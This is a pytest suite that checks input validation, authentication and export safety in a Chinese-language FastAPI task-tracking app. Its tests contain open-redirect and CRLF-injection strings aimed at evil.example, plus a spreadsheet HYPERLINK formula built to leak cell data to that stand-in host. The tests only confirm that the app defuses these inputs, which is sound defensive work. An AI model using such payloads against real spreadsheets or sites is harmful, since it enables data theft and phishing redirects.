"""What bad input gets (DESIGN "What bad input gets"; issue 10): one test per example.

Every answer is a 4xx with a Chinese message naming the field (or a 404 for a path id),
never a 500, on SQLite and on PostgreSQL.
"""

import io
import logging
import os
import tempfile
import threading
from concurrent.futures import ThreadPoolExecutor
from datetime import date, timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine, text

from app.models.task import Task
from app.models.user import Role, TokenScope
from app.services import auth
from tests.factories import (
    PASSWORD,
    assert_problem,
    bearer,
    committed,
    make_branch,
    make_campaign,
    make_problem,
    make_task,
    make_token,
    make_user,
)

API = "/api/v1"
BEYOND_INTEGER = 2147483648  # one past PostgreSQL's `integer`
BEYOND_BIGINT = 9223372036854775808  # one past SQLite's 64-bit integer


@pytest.fixture
def admin_token(engine: Engine, world: Any) -> dict[str, str]:
    with committed(engine) as s:
        return bearer(make_token(s, scope=TokenScope.write))


@pytest.fixture
def ledger(engine: Engine, world: Any) -> dict[str, int]:
    """A campaign, a problem and a task in the first township."""
    with committed(engine) as s:
        campaign = make_campaign(s)
        problem = make_problem(s, campaign, world.township, branch=world.branch)
        task = make_task(s, problem)
        return {"campaign": campaign.id, "problem": problem.id, "task": task.id}


# --- ids beyond the column -----------------------------------------------------------------


@pytest.mark.parametrize("task_id", [BEYOND_INTEGER, BEYOND_BIGINT, -BEYOND_INTEGER,
                                     "abc", "1.5", "import"])
def test_a_path_id_beyond_the_column_or_not_a_number_is_404(client, admin_token, task_id):
    assert_problem(client.get(f"{API}/tasks/{task_id}", headers=admin_token), 404)
    assert_problem(client.get(f"{API}/branches/{task_id}", headers=admin_token), 404)


@pytest.mark.parametrize("branch_id", [BEYOND_BIGINT, "import"])
def test_a_page_with_a_path_id_beyond_the_column_or_not_a_number_is_404(login, world, branch_id):
    r = login("admin").get(f"/branches/{branch_id}")
    assert r.status_code == 404 and "页面" in r.text and "整数" not in r.text


@pytest.mark.parametrize("name", ["branch_id", "township_id", "problem_id", "campaign_id"])
def test_a_query_filter_beyond_the_column_is_422_naming_it(client, admin_token, name):
    r = client.get(f"{API}/tasks", params={name: BEYOND_INTEGER}, headers=admin_token)
    assert_problem(r, 422, field=name)


def test_a_body_id_beyond_the_column_is_422_naming_it(client, admin_token, ledger):
    r = client.post(f"{API}/tasks", headers=admin_token, json={
        "problem_id": BEYOND_INTEGER, "title": "整改", "responsible_unit": "镇党委",
        "responsible_person": "王五", "due_on": str(date.today() + timedelta(days=30))})
    assert_problem(r, 422, field="problem_id")
    r = client.post(f"{API}/branches", headers=admin_token, json={
        "township_id": BEYOND_BIGINT, "name": "新村党支部", "kind": "village"})
    assert_problem(r, 422, field="township_id")


@pytest.mark.parametrize("path", ["/exports/tasks.xlsx", "/exports/tasks.csv",
                                  "/exports/branches.ndjson", "/reports/ledger.xlsx",
                                  "/reports/ledger.csv"])
def test_an_export_with_a_filter_beyond_the_column_answers_422_before_streaming(
    client, admin_token, path
):
    name = "township_id"
    r = client.get(f"{API}{path}", params={name: BEYOND_INTEGER}, headers=admin_token)
    assert_problem(r, 422, field=name)


# --- NUL and other control characters --------------------------------------------------------


def test_nul_in_a_login_is_422_naming_the_field(client, world):
    r = client.post(f"{API}/auth/login", json={"username": "a\u0000", "password": "x"})
    assert_problem(r, 422, field="username")


@pytest.mark.parametrize("char", ["\u0000", "\u000b", "\u001f", "\u007f"])
def test_control_characters_in_any_text_are_422_naming_the_field(client, admin_token, world,
                                                                  ledger, char):
    r = client.post(f"{API}/branches", headers=admin_token, json={
        "township_id": world.township.id, "name": f"新{char}村党支部", "kind": "village"})
    assert_problem(r, 422, field="name")
    r = client.post(f"{API}/problems", headers=admin_token, json={
        "campaign_id": ledger["campaign"], "township_id": world.township.id,
        "category": "organization", "description": f"描述{char}问题"})
    assert_problem(r, 422, field="description")


def test_control_characters_in_a_form_field_of_an_upload_are_422(login, ledger):
    r = login("secretary").post(f"{API}/tasks/{ledger['task']}/updates",
                                data={"note": "进展\u0000说明"})
    assert_problem(r, 422, field="note")


def test_tab_line_feed_and_carriage_return_are_kept(client, admin_token, world):
    r = client.post(f"{API}/branches", headers=admin_token, json={
        "township_id": world.township.id, "name": "新村党支部", "kind": "village",
        "notes": "一是\t二是\r\n三是"})
    assert r.status_code == 201, r.text
    assert r.json()["notes"] == "一是\t二是\r\n三是"


def test_nul_in_search_text_is_422_and_search_is_literal(client, admin_token, engine, world):
    assert_problem(client.get(f"{API}/branches", params={"q": "\u0000"}, headers=admin_token),
                   422, field="q")
    with committed(engine) as s:
        make_branch(s, world.township, name="百分之100%村党支部")
        make_branch(s, world.township, name="下划_线村党支部")
    names = lambda q: [b["name"] for b in client.get(  # noqa: E731
        f"{API}/branches", params={"q": q}, headers=admin_token).json()["items"]]
    assert names("%") == ["百分之100%村党支部"]
    assert names("_") == ["下划_线村党支部"]
    assert names("%") != names("")


def test_a_word_report_survives_control_characters_stored_before_the_rule(
    client, admin_token, engine, world, ledger
):
    with engine.begin() as conn:  # a row written before the boundary refused it
        conn.execute(text("UPDATE problem SET description = :d WHERE id = :i"),
                     {"d": "旧数据\u000b含控制字符", "i": ledger["problem"]})
        conn.execute(text("UPDATE task SET title = :t WHERE id = :i"),
                     {"t": "=1+1\u0001", "i": ledger["task"]})
    for params in ({}, {"township_id": world.township.id}):
        r = client.get(f"{API}/reports/summary.docx", params=params, headers=admin_token)
        assert r.status_code == 200, r.text
    book = load_workbook(io.BytesIO(client.get(f"{API}/exports/tasks.xlsx",
                                               headers=admin_token).content))
    titles = [row[5].value for row in book.active.iter_rows(min_row=2)]
    assert titles == ["'=1+1"]


# --- numbers typed with a Chinese input method -----------------------------------------------


def test_full_width_numbers_and_spaces_are_read_as_numbers(client, admin_token, world):
    r = client.post(f"{API}/branches", headers=admin_token, json={
        "township_id": world.township.id, "name": "全角村党支部", "kind": "village",
        "member_count": "３２", "collective_income_wan": " ３．５ ",
        "secretary_birth_year": "１９７５"})
    assert r.status_code == 201, r.text
    assert r.json()["member_count"] == 32
    assert r.json()["collective_income_wan"] in ("3.5", "3.50", 3.5)
    assert r.json()["secretary_birth_year"] == 1975
    r = client.post(f"{API}/branches", headers=admin_token, json={
        "township_id": world.township.id, "name": "负数村党支部", "kind": "village",
        "member_count": "－１"})
    assert_problem(r, 422, field="member_count")
    r = client.get(f"{API}/branches", headers=admin_token,
                   params={"limit": "２", "township_id": f" {world.township.id} "})
    assert r.status_code == 200 and len(r.json()["items"]) == 2


# --- tokens ----------------------------------------------------------------------------------


@pytest.mark.parametrize("expires_at", ["2030-01-01T00:00:00", "9999-12-31T23:59:59-14:00"])
def test_a_token_expiry_without_zone_or_out_of_range_is_422(login, world, expires_at):
    r = login("admin").post(f"{API}/tokens", json={"name": "系统", "expires_at": expires_at})
    assert_problem(r, 422, field="expires_at")


def test_a_token_expiry_with_a_zone_is_kept(login, world):
    r = login("admin").post(f"{API}/tokens",
                            json={"name": "系统", "expires_at": "2030-01-01T08:00:00+08:00"})
    assert r.status_code == 201, r.text
    assert r.json()["expires_at"].startswith("2030-01-01T00:00:00")


def test_the_log_of_a_database_error_never_carries_a_secret_hash(login, world, monkeypatch,
                                                                 caplog):
    monkeypatch.setattr(auth.secrets, "token_urlsafe", lambda n=32: "always-the-same-secret")
    admin = login("admin")
    assert admin.post(f"{API}/tokens", json={"name": "甲"}).status_code == 201
    with caplog.at_level(logging.INFO, logger="rectify"):
        r = admin.post(f"{API}/tokens", json={"name": "乙"})
    assert_problem(r, 409)
    assert caplog.records, "the conflict is logged"
    secret_hash = auth.sha256("rct_always-the-same-secret")
    assert secret_hash not in caplog.text and "always-the-same-secret" not in caplog.text


# --- headers ---------------------------------------------------------------------------------


def test_an_if_match_of_5000_digits_is_422(client, admin_token, world):
    r = client.patch(f"{API}/branches/{world.branch.id}", json={"member_count": 3},
                     headers={**admin_token, "If-Match": "9" * 5000})
    assert_problem(r, 422, field="If-Match")


def test_a_request_id_that_is_not_utf8_is_replaced(client, admin_token):
    r = client.get(f"{API}/branches", headers={**admin_token, "X-Request-ID": b"\xff\xfe"})
    assert r.status_code == 200
    assert r.headers["x-request-id"] and "\\x" not in r.headers["x-request-id"]
    r = client.get("/healthz", headers={"X-Request-ID": "abc-123"})
    assert r.headers["x-request-id"] == "abc-123"


@pytest.mark.parametrize("path", ["/screenings", "/problems", "/tasks", "/townships"])
def test_a_body_key_named_like_pythons_own_arguments_is_ignored_not_a_500(
    client, admin_token, path
):
    # SQLModel bodies are built by calling the class; a key `cls` once reached
    # SQLModel.__new__(cls, ...) as a second `cls` (schemathesis found it)
    for body in ({"cls": None}, {"cls": 1, "__pydantic_self__": 2, "self": 3}):
        r = client.post(f"{API}{path}", json=body, headers=admin_token)
        assert_problem(r, 422)
    r = client.post(f"{API}/screenings", headers=admin_token, json={
        "campaign_id": 1, "branch_id": 1, "led_by": "张三", "screened_on": "2026-11-01",
        "results": [{"code": "a", "cls": None}], "cls": None})
    assert r.status_code != 500, r.text


def test_malformed_json_is_422_in_chinese(client, world):
    r = client.post(f"{API}/auth/login", content=b'{"username": ',
                    headers={"Content-Type": "application/json"})
    assert_problem(r, 422, field="body")
    r = client.post(f"{API}/auth/login", content=b'{"username": "\xff"}',
                    headers={"Content-Type": "application/json"})
    assert_problem(r, 422, field="body")


def test_a_broken_multipart_body_is_422_in_chinese(login, ledger):
    r = login("secretary").post(
        f"{API}/tasks/{ledger['task']}/updates", content=b"--b\r\nq\xf0--b--\r\n",
        headers={"Content-Type": "multipart/form-data; boundary=b"})
    assert_problem(r, 422, field="body")


def test_a_body_over_the_limit_is_413_before_it_is_read(client, world):
    big = b'{"username": "' + b"a" * (2 * 1024 * 1024) + b'", "password": "x"}'
    assert_problem(client.post(f"{API}/auth/login", content=big,
                               headers={"Content-Type": "application/json"}), 413)
    r = client.post(f"{API}/auth/login", content=iter([b" " * 65536] * 20),
                    headers={"Content-Type": "application/json"})  # no Content-Length
    assert_problem(r, 413)


def test_a_streamed_body_is_refused_as_soon_as_it_passes_the_limit(app):
    import anyio

    received = 0
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        nonlocal received
        received += 1
        return {"type": "http.request", "body": b" " * 65536, "more_body": received < 3200}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {"type": "http", "method": "POST", "path": f"{API}/auth/login", "raw_path": b"",
             "root_path": "", "query_string": b"", "scheme": "http", "http_version": "1.1",
             "server": ("testserver", 80), "client": ("203.0.113.1", 1),
             "headers": [(b"content-type", b"application/json"), (b"host", b"testserver")]}
    with ThreadPoolExecutor(max_workers=1) as pool:  # a thread of its own: no running loop
        pool.submit(anyio.run, app, scope, receive, send).result()
    assert sent[0]["status"] == 413
    assert received <= 1024 * 1024 // 65536 + 1  # 200 MB were offered; 1 MB was read


def test_an_upload_over_max_upload_mb_is_413(login, ledger, settings):
    size = (settings.max_upload_mb + 2) * 1024 * 1024
    r = login("secretary").post(f"{API}/tasks/{ledger['task']}/updates", data={"note": "照片"},
                                files={"files": ("a.jpg", b"\xff\xd8" + b"0" * size,
                                                 "image/jpeg")})
    assert_problem(r, 413)


# --- sign-in ---------------------------------------------------------------------------------


@pytest.mark.parametrize("target", ["/%0A/x", "/%09/evil.example/x", "//x", "/%5Cx",
                                    "/\\evil.example", "https://evil.example/", "/%0D%0AX: 1"])
def test_next_is_followed_only_to_a_path_of_this_site(app, world, target):
    with TestClient(app) as c:
        r = c.post(f"{API}/auth/login?next={target}", headers={"HX-Request": "true"},
                   json={"username": "admin", "password": PASSWORD})
        assert r.status_code == 200, r.text
        assert r.headers["HX-Redirect"] == "/"
        page = c.get(f"/login?next={target}")
        assert page.status_code == 200 and '?next=/"' in page.text


def test_next_to_a_page_of_this_site_is_kept(app, world):
    with TestClient(app) as c:
        r = c.post(f"{API}/auth/login?next=/tasks%3Fstatus%3Dsubmitted",
                   headers={"HX-Request": "true"},
                   json={"username": "admin", "password": PASSWORD})
        assert r.headers["HX-Redirect"] == "/tasks?status=submitted"


def test_a_password_change_and_a_deactivation_end_every_session(app, login, world, engine):
    secretary_sessions = [login("secretary"), login("secretary")]
    admin = login("admin")
    with engine.connect() as conn:
        user_id = conn.execute(text("SELECT id FROM user_account WHERE username='secretary'")
                               ).scalar_one()
    version = admin.get(f"{API}/users/{user_id}").json()["version"]
    r = admin.patch(f"{API}/users/{user_id}", json={"password": "a-new-password-1"},
                    headers={"If-Match": f'"{version}"'})
    assert r.status_code == 200, r.text
    for b in secretary_sessions:
        assert_problem(b.get(f"{API}/auth/me"), 401)
    again = login("secretary", "a-new-password-1")
    version = admin.get(f"{API}/users/{user_id}").json()["version"]
    r = admin.patch(f"{API}/users/{user_id}", json={"active": False},
                    headers={"If-Match": f'"{version}"'})
    assert r.status_code == 200, r.text
    assert_problem(again.get(f"{API}/auth/me"), 401)


def test_get_logout_asks_and_signing_out_ends_the_server_session(app, login, world):
    staff = login("staff")
    cookie = staff.cookies.get("rectify_session")
    page = staff.get("/logout")
    assert page.status_code == 200 and "hx-post=\"/api/v1/auth/logout\"" in page.text
    assert staff.get(f"{API}/auth/me").status_code == 200  # a GET changed nothing
    assert staff.post(f"{API}/auth/logout").status_code == 204
    with TestClient(app, cookies={"rectify_session": cookie}) as replay:
        assert_problem(replay.get(f"{API}/auth/me"), 401)


def test_failed_logins_lock_only_that_user_from_that_address(app, world, settings):
    attacker = TestClient(app, client=("203.0.113.9", 4000))
    owner = TestClient(app, client=("198.51.100.7", 4000))
    with attacker, owner:
        for _ in range(settings.login_max_failures):
            r = attacker.post(f"{API}/auth/login", json={"username": "secretary",
                                                         "password": "wrong-password"})
            assert r.status_code == 401
        assert_problem(attacker.post(f"{API}/auth/login", json={
            "username": "secretary", "password": PASSWORD}), 429)
        # the real secretary, elsewhere, still signs in
        assert owner.post(f"{API}/auth/login", json={
            "username": "secretary", "password": PASSWORD}).status_code == 200


def test_parallel_wrong_logins_get_no_more_checks_than_the_limit(app, world, settings,
                                                                 monkeypatch):
    checks = 0
    lock = threading.Lock()
    real = auth.verify_password

    def counted(password_hash: str, password: str) -> bool:
        nonlocal checks
        with lock:
            checks += 1
        return real(password_hash, password)

    monkeypatch.setattr(auth, "verify_password", counted)

    def attempt(_: int) -> int:
        with TestClient(app, client=("203.0.113.10", 4000)) as c:
            return c.post(f"{API}/auth/login", json={"username": "staff",
                                                    "password": "wrong-password"}).status_code

    with ThreadPoolExecutor(max_workers=8) as pool:
        statuses = list(pool.map(attempt, range(40)))
    assert set(statuses) <= {401, 429} and statuses.count(429) >= 40 - settings.login_max_failures
    assert checks <= settings.login_max_failures


# --- concurrency -----------------------------------------------------------------------------


def test_concurrent_reads_with_a_new_token_never_fail(app, engine, world):
    with committed(engine) as s:
        token = bearer(make_token(s))

    def read(_: int) -> int:
        with TestClient(app) as c:
            return c.get(f"{API}/branches", headers=token).status_code

    with ThreadPoolExecutor(max_workers=8) as pool:
        assert set(pool.map(read, range(32))) == {200}
    with engine.connect() as conn:
        assert conn.execute(text("SELECT last_used_at FROM api_token")).scalar_one() is not None


def test_concurrent_issuance_upserts_without_a_version_all_succeed(app, engine, world, login):
    with committed(engine) as s:
        campaign = make_campaign(s)
        branch = make_branch(s, world.township)
        make_user(s, Role.township_staff, township=world.township, username="staff2")
    clients = [login("staff") for _ in range(4)] + [login("staff2") for _ in range(4)]

    def put(i: int) -> int:
        return clients[i].put(f"{API}/form-issuances", json={
            "campaign_id": campaign.id, "branch_id": branch.id, "issued": 10 + i}).status_code

    with ThreadPoolExecutor(max_workers=8) as pool:
        assert set(pool.map(put, range(8))) == {200}
    with engine.connect() as conn:
        rows = conn.execute(text("SELECT issued FROM form_issuance")).all()
    assert len(rows) == 1 and 10 <= rows[0][0] < 18


# --- leaks and server-owned fields -----------------------------------------------------------


def test_a_screening_never_keeps_a_client_sent_problem_id(engine, world, login):
    from tests.api.test_screenings import body, results

    with committed(engine) as s:
        campaign = make_campaign(s)
        theirs = make_problem(s, campaign, world.other_township, branch=world.other_branch)
    sent = results({"rules_ignored": "全年未开展主题党日"})
    for r in sent:
        r["problem_id"] = theirs.id
    r = login("staff").post(f"{API}/screenings", json=body(
        campaign.id, world.branch.id, conclusion="weak_lax", results=sent))
    assert r.status_code == 201, r.text
    assert all(res.get("problem_id") is None for res in r.json()["results"])


# --- exports ---------------------------------------------------------------------------------


FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'


def test_exports_for_people_write_text_never_a_formula_or_a_link(client, admin_token, engine,
                                                                 ledger):
    with committed(engine) as s:
        task = s.get(Task, ledger["task"])
        task.title = FORMULA
        task.responsible_person = "@王五"
        s.add(task)
    book = load_workbook(io.BytesIO(client.get(f"{API}/exports/tasks.xlsx",
                                               headers=admin_token).content))
    header = [c.value for c in book.active[1]]
    row = dict(zip(header, book.active[2], strict=True))
    assert row["title"].value == "'" + FORMULA and row["title"].data_type == "s"
    assert row["title"].hyperlink is None
    assert row["responsible_person"].value == "'@王五"
    csv_text = client.get(f"{API}/exports/tasks.csv", headers=admin_token).content.decode()
    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text
    ndjson = client.get(f"{API}/exports/tasks.ndjson", headers=admin_token).text
    assert '"title": "=HYPERLINK(' in ndjson  # byte-faithful


def test_numbers_and_dates_in_xlsx_exports_are_typed_cells(client, admin_token, engine, world,
                                                           ledger):
    from decimal import Decimal

    with committed(engine) as s:
        make_branch(s, world.township, name="收入村党支部", collective_income_wan=Decimal("8.50"))
    book = load_workbook(io.BytesIO(client.get(f"{API}/exports/branches.xlsx",
                                               headers=admin_token).content))
    header = [c.value for c in book.active[1]]
    income = [r[header.index("collective_income_wan")].value
              for r in book.active.iter_rows(min_row=2)]
    assert 8.5 in income
    book = load_workbook(io.BytesIO(client.get(f"{API}/exports/tasks.xlsx",
                                               headers=admin_token).content))
    header = [c.value for c in book.active[1]]
    due = book.active[2][header.index("due_on")]
    assert due.is_date and due.value.date() > date.today()
    assert book.active[2][header.index("id")].data_type == "n"


def test_an_aborted_xlsx_download_leaves_no_file(app, admin_token, engine, world, ledger):
    folder = tempfile.gettempdir()
    before = set(os.listdir(folder))
    with TestClient(app) as c:
        for _ in range(3):
            with c.stream("GET", f"{API}/exports/tasks.xlsx", headers=admin_token) as r:
                assert r.status_code == 200
                next(r.iter_raw(1024))  # then the client goes away
    left = {n for n in set(os.listdir(folder)) - before if n.endswith(".xlsx")}
    assert left == set()


def test_the_task_csv_is_the_task_table_and_the_ledger_has_its_own(client, admin_token, ledger):
    header = client.get(f"{API}/exports/tasks.csv", headers=admin_token).text.splitlines()[0]
    ndjson = client.get(f"{API}/exports/tasks.ndjson", headers=admin_token).text
    import json

    assert header.lstrip("\ufeff").split(",") == list(json.loads(ndjson.splitlines()[0]))
    ledger_header = client.get(f"{API}/reports/ledger.csv", headers=admin_token).text
    assert ledger_header.lstrip("\ufeff").startswith("序号,党支部")


# --- the contract in the OpenAPI, CSP, /docs -------------------------------------------------


def test_every_operation_documents_its_problem_responses(client):
    schema = client.get(f"{API}/openapi.json").json()
    operations = [(p, m, op) for p, item in schema["paths"].items() for m, op in item.items()]
    assert len(operations) >= 79
    for path, method, op in operations:
        problems = {s: r for s, r in op["responses"].items() if s.startswith("4")}
        assert problems or path in ("/healthz", "/readyz"), f"{method} {path}"
        for status, response in problems.items():
            assert list(response["content"]) == ["application/problem+json"], (path, status)
    patch = schema["paths"]["/api/v1/branches/{branch_id}"]["delete"]
    if_match = next(p for p in patch["parameters"] if p["name"] == "If-Match")
    assert if_match["required"] is True
    assert {"412", "428"} <= set(patch["responses"])


def test_a_405_names_the_allowed_methods(client, admin_token):
    r = client.delete(f"{API}/criteria", headers=admin_token)
    assert_problem(r, 405)
    assert r.headers["Allow"] == "GET"
    r = client.put(f"{API}/branches", headers=admin_token)
    assert set(r.headers["Allow"].split(", ")) == {"GET", "POST"}


def test_responses_carry_a_content_security_policy_and_docs_load_from_the_site(client):
    for path in ("/login", "/docs", f"{API}/criteria"):
        policy = client.get(path).headers["content-security-policy"]
        assert "default-src 'self'" in policy and "object-src 'none'" in policy
    docs = client.get("/docs").text
    assert "/static/vendor/swagger-ui-dist-5.35.0/swagger-ui-bundle.js" in docs
    assert "cdn" not in docs and "<script>" not in docs
    assert client.get("/static/vendor/swagger-ui-dist-5.35.0/swagger-ui.css").status_code == 200
